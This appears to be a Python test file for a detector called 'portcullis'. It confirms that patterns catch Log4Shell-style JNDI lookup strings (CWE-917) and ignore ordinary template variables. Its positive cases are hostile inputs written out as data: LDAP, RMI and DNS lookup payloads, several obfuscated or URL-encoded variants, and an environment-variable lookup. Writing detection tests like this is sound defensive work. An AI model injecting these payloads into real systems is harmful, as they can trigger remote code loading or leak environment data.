from __future__ import annotations

from collections.abc import Callable

from rows import rows

from portcullis.engine.inspection.patterns.lookup import CLASS, PATTERNS

Ids = Callable[..., set[str]]
MINE = {pattern.id for pattern in PATTERNS}


@rows(
    "text",
    [
        "${jndi:ldap://192.0.2.1/a}",
        "${jNdI:lDaP://x/a}",
        "${${lower:j}${lower:n}di:ldap://x}",
        "${j${::-n}di:rmi://x}",
        "%24%7Bjndi:dns://x%7D",
        "${env:PATH}",
    ],
)
def test_a_lookup_is_found(text: str, ids: Ids) -> None:
    assert ids(text) & MINE


@rows(
    "text",
    [
        "${user}",
        "${a.b.c}",
        "costs $ {5}",
        "the environment: ${environment}",
        "{jndi}",
    ],
)
def test_a_variable_passes(text: str, ids: Ids) -> None:
    assert not ids(text) & MINE


def test_the_class_is_known_by_its_number() -> None:
    assert CLASS.cwe == 917
